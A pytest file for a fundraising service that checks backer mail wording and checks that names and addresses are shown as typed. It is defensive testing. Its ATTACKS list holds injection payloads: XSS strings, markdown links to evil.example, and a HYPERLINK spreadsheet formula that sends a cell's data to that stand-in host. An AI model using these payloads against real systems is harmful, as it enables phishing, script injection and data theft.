"""Mail tells the truth: read as the backer reads it, from a real SMTP server on loopback.

- Each kind of backer gets the words for their case: bank details and their
  reference for an unpaid pledge recorded by hand (typed or imported), a
  receipt once paid, the card wording for a card pledge (issue 13, item 2).
- Text a person gave (a name, an address) is shown as typed, never read as
  markup, in every kind of mail, in certificates and in the service's pages (item 3).
- A cancelled pledge is confirmed, and its unsent "we have your pledge" never
  goes; a card that keeps failing gets one "action needed" mail with one date (item 4).
"""

from __future__ import annotations

import io
import json
import re
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pypdf
import pytest
import sqlalchemy as sa

from fundraiser import outbox
from fundraiser.ledger import open_ledger, schema
from tests import stripe_fixtures
from tests.conftest import Cli
from tests.payments.test_collect import DECLINE, after, authorized
from tests.service.test_pledges import PLEDGE, confirm, post, save_card
from tests.smtp_fixtures import SmtpServer, fixture_smtp_server  # noqa: F401 - fixture
from tests.stripe_fixtures import AFTER_DEADLINE, LocalStripe, TestClient

#: Shares are issued before the deadline: a keep-it-all campaign may.
KEEP_IT_ALL = pytest.mark.keep_it_all

localstripe = stripe_fixtures.localstripe
service = stripe_fixtures.service
small_goal = stripe_fixtures.small_goal
stripe_env = stripe_fixtures.stripe_env

BANK = (
    "Account name: Hearth Social Co-operative Ltd",
    "Sort code 08-92-99, account 65432100",
)
CARD_WORDS = ("Nothing is charged yet", "your card is charged then")


def send(cli: Cli, smtp: SmtpServer, now: str | None = None) -> None:
    env = {"SMTP_URL": smtp.url, **({"FUNDRAISER_NOW": now} if now else {})}
    cli.ok("mail", "send", env=env)


def only(smtp: SmtpServer, address: str) -> EmailMessage:
    found = smtp.to(address)
    assert len(found) == 1, [m.message["Subject"] for m in found]
    return found[0].message


def text_of(msg: EmailMessage) -> str:
    """The plain part as one line of words (the template wraps lines anywhere)."""
    return " ".join(msg.get_body(("plain",)).get_content().split())


def pledge_ids(cli: Cli, now: str | None = None) -> dict[str, int]:
    env = {"FUNDRAISER_NOW": now} if now else None
    listed = json.loads(cli.ok("pledges", "list", "--json", env=env).output)
    return {p["email"]: p["id"] for p in listed}


# -- item 2: the words fit the backer ---------------------------------------------------


def test_pledges_recorded_by_hand_get_bank_details_or_a_receipt(
    cli: Cli, smtp_server: SmtpServer, tmp_path: Path
) -> None:
    person = ("--name", "Seed Backer", "--address", "1 Seed Lane", "--amount", "2500.00")
    cli.ok("pledges", "add", *person, "--email", "typed-owed@example.org", "--notify")
    cli.ok(
        "pledges", "add", *person, "--email", "typed-paid@example.org", "--status", "paid",
        "--reference", "BT-1", "--notify",
    )  # fmt: skip
    source = tmp_path / "seed.csv"
    source.write_text(
        "name,email,amount,round,status,reference,address\n"
        "Imported Owed,imported-owed@example.org,1000.00,seed,pledged,,2 Road\n"
        "Imported Paid,imported-paid@example.org,2000.00,seed,paid,TX-2,3 Road\n",
        encoding="utf-8",
    )
    cli.ok("pledges", "import", str(source), "--notify")
    ids = pledge_ids(cli)
    send(cli, smtp_server)

    for who, amount in (("typed-owed", "£2,500.00"), ("imported-owed", "£1,000.00")):
        text = text_of(only(smtp_server, f"{who}@example.org"))
        assert f"Please send **{amount}** by bank transfer to:" in text, text
        for line in BANK:
            assert line in text, (who, line)
        assert f"Reference: **PLEDGE-{ids[f'{who}@example.org']}**" in text, text
        assert "card" not in text and "received your payment" not in text, text
    for who, amount in (("typed-paid", "£2,500.00"), ("imported-paid", "£2,000.00")):
        text = text_of(only(smtp_server, f"{who}@example.org"))
        assert f"We have received your payment of **{amount}**." in text, text
        assert "card" not in text and "bank transfer to" not in text, text
        assert "PLEDGE-" not in text, text


def test_card_pledges_get_the_card_wording_for_their_status(
    service: TestClient, stripe_env: dict[str, str], sqlite_cli: Cli, smtp_server: SmtpServer
) -> None:
    unfinished = post(service, {**PLEDGE, "email": "unfinished@example.org"}).json()
    saved = post(service, {**PLEDGE, "email": "saved@example.org"}).json()
    save_card(stripe_env, saved["client_secret"])
    assert confirm(service, saved).json()["secured"]
    # No path queues this mail before a card is saved; the wording must still be true.
    ledger = open_ledger(sqlite_cli.db_url)
    with ledger.write() as tx:
        outbox.queue(
            tx, outbox.Kind.PLEDGE_RECEIVED, "test-unfinished", to_email="unfinished@example.org",
            to_name="Ada Lovelace", data={"pledge_id": unfinished["pledge_id"]},
            pledge_id=unfinished["pledge_id"],
        )  # fmt: skip
    ledger.dispose()
    send(sqlite_cli, smtp_server)

    text = text_of(only(smtp_server, "saved@example.org"))
    for words in CARD_WORDS:
        assert words in text, text
    assert "bank transfer" not in text and "PLEDGE-" not in text, text
    text = text_of(only(smtp_server, "unfinished@example.org"))
    assert "Your card has not been confirmed yet, so nothing has been charged." in text, text
    assert "your card is charged then" not in text and "bank transfer" not in text, text

    # Paid by the time the mail goes: a receipt, not "nothing is charged yet".
    paid = post(service, {**PLEDGE, "email": "paid@example.org"}).json()
    save_card(stripe_env, paid["client_secret"])
    assert confirm(service, paid).json()["secured"]
    sqlite_cli.ok("collect", env=after(stripe_env))
    send(sqlite_cli, smtp_server, AFTER_DEADLINE)
    text = text_of(only(smtp_server, "paid@example.org"))
    assert "We have received your payment of **£200.00** by card." in text, text
    assert "Nothing is charged yet" not in text and "bank transfer" not in text, text


# -- item 3: a person's text stays text -------------------------------------------------

ATTACKS = [
    "[Verify your card here](http://evil.example/verify)",
    "![x](http://evil.example/a.png)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "**bold** _it_ `code` # heading",
    '=HYPERLINK("http://evil.example/?"&C2,"Click")',
    "<http://evil.example/auto>",
    "Ada [x][1]\n\n[1]: http://evil.example/ref",
    "L" * 4000 + " [x](http://evil.example/long) " + "M" * 970,  # 5,000 characters
]
ADDRESS = "[Flat 1](http://evil.example/flat) <img src=x>, **Leeds**"
OUR_LINKS = ("https://hearth.example/fix/", "https://hearth.example/member/sign-in/")


class Tags(HTMLParser):
    """Every tag and attribute in a page, and its text as a reader sees it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def audit_html(html: str) -> Tags:
    """No link, image or script we did not write; nothing from evil.example in any attribute."""
    parsed = Tags()
    parsed.feed(html)
    names = {tag for tag, _ in parsed.tags}
    assert not names & {"img", "script", "iframe", "object", "embed", "form", "h1", "h2"}, names
    for tag, attrs in parsed.tags:
        assert "evil.example" not in json.dumps(attrs), (tag, attrs)
        if tag == "a":
            assert str(attrs.get("href")).startswith(OUR_LINKS), attrs
    return parsed


def squash(text: str) -> str:
    return " ".join(text.split())


#: A member's sign-in link, its query string kept (ours carry none; the mail must not care).
MEMBER_LINK = "https://hearth.example/member/sign-in/a?b=c&d="


@KEEP_IT_ALL
def test_no_kind_of_mail_reads_a_persons_text_as_markup(
    sqlite_cli: Cli, smtp_server: SmtpServer
) -> None:
    cli = sqlite_cli
    for n, name in enumerate(ATTACKS):
        who = ("--name", name, "--address", ADDRESS)
        paid = ("--status", "paid", "--reference", f"R{n}")
        cli.ok("pledges", "add", *who, "--email", f"paid{n}@example.org", "--amount", "100.00",
               *paid, "--notify")  # fmt: skip
        cli.ok("pledges", "add", *who, "--email", f"owed{n}@example.org", "--amount", "50.00",
               "--notify")  # fmt: skip
        cli.ok("pledges", "add", *who, "--email", f"gone{n}@example.org", "--amount", "50.00")
    ids = pledge_ids(cli)
    for n in range(len(ATTACKS)):
        cli.ok("pledges", "mark-paid", str(ids[f"owed{n}@example.org"]), "--notify")
        cli.ok("pledges", "cancel", str(ids[f"gone{n}@example.org"]))
    cli.ok("shares", "issue")
    # The card payments' mails, in the shapes payments/events.py queues them.
    ledger = open_ledger(cli.db_url)
    with ledger.write() as tx:
        for n, name in enumerate(ATTACKS):
            pid = ids[f"paid{n}@example.org"]
            base = {"pledge_id": pid, "amount": 10000, "currency": "GBP"}
            shapes = {
                outbox.Kind.PAYMENT_FAILED: {
                    **base, "reason": "card_declined", "authentication_required": False,
                    "fix_until": "2027-03-08T09:00:00+00:00",
                    "fix_url": f"https://hearth.example/fix/{pid}?t=abc&u=1",
                },
                outbox.Kind.CAMPAIGN_FAILED: {**base, "raised": 100, "reference": name},
                outbox.Kind.REFUND_SENT: {**base, "method": "bank", "reference": name},
                # the board's words, as typed, and the person's name
                outbox.Kind.APPLICATION_RECEIVED: {"amount": 5000, "currency": "GBP"},
                outbox.Kind.APPLICATION_DECLINED: {
                    "reason": name, "amount": 5000, "currency": "GBP", "method": "bank",
                    "decided_on": "2027-03-10",
                },
                # a member's page's mails, as service/member.py and dunning.py queue them
                outbox.Kind.MEMBER_SIGN_IN: {"link": f"{MEMBER_LINK}{n}", "minutes": 30},
                outbox.Kind.MEMBER_EMAIL: {"link": f"{MEMBER_LINK}{n}", "hours": 24},
                outbox.Kind.FEE_FAILED: {
                    "amount": 300, "currency": "GBP", "period_start": "2027-04-01",
                    "lapses_on": "2027-05-01", "link": f"{MEMBER_LINK}{n}",
                },
                outbox.Kind.FEE_LAPSED: {
                    "amount": 300, "currency": "GBP", "overdue_since": "2027-04-01",
                    "lapsed_on": "2027-05-01", "link": None,
                },
            }  # fmt: skip
            for kind, data in shapes.items():
                outbox.queue(tx, kind, f"t-{kind.value}-{n}", to_email=f"paid{n}@example.org",
                             to_name=name, data=data, pledge_id=pid)  # fmt: skip
    ledger.dispose()
    send(cli, smtp_server)

    kinds_seen: set[str] = set()
    for n, name in enumerate(ATTACKS):
        mails = [*smtp_server.to(f"paid{n}@example.org"), *smtp_server.to(f"owed{n}@example.org"),
                 *smtp_server.to(f"gone{n}@example.org")]  # fmt: skip
        for received in mails:
            msg = received.message
            kinds_seen.add(str(msg["Subject"]).split(":")[0][:24])
            parsed = audit_html(msg.get_body(("html",)).get_content())
            assert f"Dear {squash(name)}" in squash("".join(parsed.text)), msg["Subject"]
            text = msg.get_body(("plain",)).get_content()
            assert f"Dear {squash(name)}" in squash(text), (msg["Subject"], text[:300])
            assert max(len(line) for line in received.raw.split(b"\r\n")) <= 998
            shown = msg["To"].addresses[0].display_name
            assert len(shown) <= 100 and squash(name).startswith(shown.removesuffix("...")), shown
        # paid: received, welcome, failed, campaign failed, refund, application received,
        # declined, sign-in, new email, fee failed, fee lapsed; owed: received, payment
        # received, welcome; gone: cancelled.
        assert len(mails) == 15, [m.message["Subject"] for m in mails]
    assert len(kinds_seen) == len(outbox.Kind), kinds_seen  # every kind of mail was read
    # The one link in them all is ours, with its query string intact.
    failed = [m.message for m in smtp_server.inbox if "did not go through" in m.message["Subject"]]
    html = failed[0].get_body(("html",)).get_content()
    assert re.search(r'<a href="https://hearth.example/fix/\d+\?t=abc&amp;u=1">', html), html
    signin = [m.message for m in smtp_server.inbox if "sign-in link" in m.message["Subject"]]
    html = signin[0].get_body(("html",)).get_content()
    assert re.search(r'<a href="https://hearth.example/member/sign-in/a\?b=c&amp;d=0">', html)


@KEEP_IT_ALL
def test_certificates_show_a_persons_text_as_typed(sqlite_cli: Cli, campaign_dir: Path) -> None:
    names = ATTACKS[:6]
    for n, name in enumerate(names):
        sqlite_cli.ok(
            "pledges", "add", "--name", name, "--address", ADDRESS, "--email",
            f"m{n}@example.org", "--amount", "100.00", "--status", "paid", "--reference", f"R{n}",
        )  # fmt: skip
    sqlite_cli.ok("shares", "issue")
    sqlite_cli.ok("certificates", "make")
    pdfs = sorted((campaign_dir / "var" / "certificates").glob("certificate-*.pdf"))
    assert len(pdfs) == len(names)
    for path, name in zip(pdfs, names, strict=True):
        reader = pypdf.PdfReader(io.BytesIO(path.read_bytes()))
        text = squash(" ".join(page.extract_text() for page in reader.pages))
        assert squash(name) in text, (name, text[:400])
        assert "[Flat 1](http://evil.example/flat) <img src=x>, **Leeds**" in text, text[:400]
        for page in reader.pages:
            annots = [a.get_object() for a in page.get("/Annots") or []]
            assert not [a for a in annots if "/A" in a], annots  # no links at all
            xobjects = page["/Resources"].get("/XObject") or {}
            images = [x for x in xobjects.values() if x.get_object().get("/Subtype") == "/Image"]
            assert images == []


def test_the_private_link_page_shows_a_persons_text_as_typed(
    service: TestClient, stripe_env: dict[str, str]
) -> None:
    body = post(service, {**PLEDGE, "name": ATTACKS[0], "display_name": ATTACKS[2]}).json()
    token = body["manage_url"].rsplit("/", 1)[1]
    page = service.get(f"/manage/{token}")
    assert page.status_code == 200
    parsed = Tags()
    parsed.feed(page.text)
    assert "img" not in {tag for tag, _ in parsed.tags}
    assert "evil.example" not in page.text or "&lt;" in page.text


# -- item 4: a cancel is confirmed; a failing card is told once --------------------------


def test_a_backer_who_cancels_by_the_private_link_is_told_and_nothing_else_goes(
    service: TestClient, stripe_env: dict[str, str], sqlite_cli: Cli, smtp_server: SmtpServer
) -> None:
    body = post(service, {**PLEDGE, "email": "changed-mind@example.org"}).json()
    save_card(stripe_env, body["client_secret"])
    assert confirm(service, body).json()["secured"]
    token = body["manage_url"].rsplit("/", 1)[1]
    done = service.post(f"/manage/{token}/cancel", follow_redirects=False)  # the page's button
    assert done.status_code == 303, done.text
    assert service.get(f"/api/manage/{token}").json()["status"] == "cancelled"
    send(sqlite_cli, smtp_server)
    msg = only(smtp_server, "changed-mind@example.org")
    assert msg["Subject"] == ("Your pledge to Hearth Social Co-operative is cancelled (£200.00)"), (
        msg["Subject"]
    )
    text = text_of(msg)
    assert f"of **£200.00** (pledge number {body['pledge_id']}) is cancelled." in text, text
    assert "Nothing has been charged for it, and nothing will be." in text, text
    assert "We have your pledge" not in text
    # Cancelling twice says so and mails nothing more.
    again = service.post(f"/api/manage/{token}/cancel")
    assert again.status_code in (409, 403)
    send(sqlite_cli, smtp_server)
    assert len(smtp_server.to("changed-mind@example.org")) == 1


def test_an_organizer_cancel_is_confirmed_in_the_same_step(
    cli: Cli, smtp_server: SmtpServer
) -> None:
    person = ("--name", "Seed Backer", "--address", "1 Seed Lane", "--amount", "2500.00")
    cli.ok("pledges", "add", *person, "--email", "seed@example.org", "--notify")
    cli.ok("pledges", "add", *person, "--email", "keep@example.org", "--notify")
    queued = _outbox(cli)
    assert [(r["kind"], r["to_email"]) for r in queued] == [
        ("pledge_received", "seed@example.org"),
        ("pledge_received", "keep@example.org"),
    ]
    cli.ok("pledges", "cancel", "1")
    assert [(r["kind"], r["to_email"]) for r in _outbox(cli)] == [
        ("pledge_received", "keep@example.org"),
        ("pledge_cancelled", "seed@example.org"),
    ]
    send(cli, smtp_server)
    msg = only(smtp_server, "seed@example.org")
    text = text_of(msg)
    assert msg["Subject"].startswith("Your pledge to Hearth Social Co-operative is cancelled")
    assert "Please do not send us money for it." in text, text
    assert "bank transfer to:" not in text and "PLEDGE-1" not in text
    assert "Please send" in text_of(only(smtp_server, "keep@example.org"))


def test_an_organizer_cancel_of_a_card_pledge_drops_its_unsent_mail(
    service: TestClient, stripe_env: dict[str, str], sqlite_cli: Cli, smtp_server: SmtpServer
) -> None:
    body = post(service, {**PLEDGE, "email": "card@example.org"}).json()
    save_card(stripe_env, body["client_secret"])
    assert confirm(service, body).json()["secured"]
    sqlite_cli.ok("pledges", "cancel", str(body["pledge_id"]), env=stripe_env)
    send(sqlite_cli, smtp_server)
    text = text_of(only(smtp_server, "card@example.org"))
    assert "is cancelled" in text and "Nothing has been charged" in text, text


def _outbox(cli: Cli) -> list[dict[str, Any]]:
    ledger = open_ledger(cli.db_url)
    try:
        with ledger.read() as conn:
            rows = conn.execute(sa.select(schema.outbox).order_by(schema.outbox.c.id))
            return [dict(r._mapping) for r in rows]
    finally:
        ledger.dispose()


RETRY_1 = "2027-03-03T10:00:00+00:00"  # 49 hours after the first failure
RETRY_2 = "2027-03-05T11:00:00+00:00"  # 49 hours after the first retry


def test_a_card_that_keeps_failing_gets_one_reminder_with_one_date(
    service: TestClient,
    stripe_env: dict[str, str],
    sqlite_cli: Cli,
    smtp_server: SmtpServer,
    localstripe: LocalStripe,
) -> None:
    [pid] = authorized(service, stripe_env, [DECLINE])
    runs = [
        sqlite_cli.ok("collect", "--json", env=after(stripe_env)),
        *(
            sqlite_cli.ok("collect", "--retry", "--json", env=after(stripe_env, FUNDRAISER_NOW=at))
            for at in (RETRY_1, RETRY_2)
        ),
    ]
    for n, run in enumerate(runs):
        send(sqlite_cli, smtp_server, [AFTER_DEADLINE, RETRY_1, RETRY_2][n])
        # Each run did charge the card, and it failed again: the retries are real.
        assert json.loads(run.output)["result"]["failed_pledges"] == [pid], run.output
    assert len([c for c in localstripe.all("charges") if c["status"] == "failed"]) == 3

    needed = [m.message for m in smtp_server.inbox if m.message["Subject"].startswith("Action")]
    assert len(needed) == 1, [m["Subject"] for m in needed]
    text = text_of(needed[0])
    assert "Your place is held until 8 March 2027." in text, text
    # The promise stands: the private link still says the same day, and the
    # pledge lapses after it, not after a date moved by the retries.
    fix_url = re.search(r"http://testserver/manage/[^\s)]+", text)
    assert fix_url is not None, text
    view = service.get("/api/manage/" + fix_url.group(0).rsplit("/", 1)[1]).json()
    assert view["fix_until"].startswith("2027-03-08T09:00"), view
    late = after(stripe_env, FUNDRAISER_NOW="2027-03-08T10:00:00+00:00")
    assert "1 pledge lapsed" in sqlite_cli.ok("collect", "--retry", env=late).output


@pytest.mark.parametrize("kind", sorted(k.value for k in outbox.Kind))
def test_every_outbox_kind_has_a_template(kind: str) -> None:
    from fundraiser.documents import PACKAGE_TEMPLATES

    assert (PACKAGE_TEMPLATES / "mail" / f"{kind}.md").is_file()
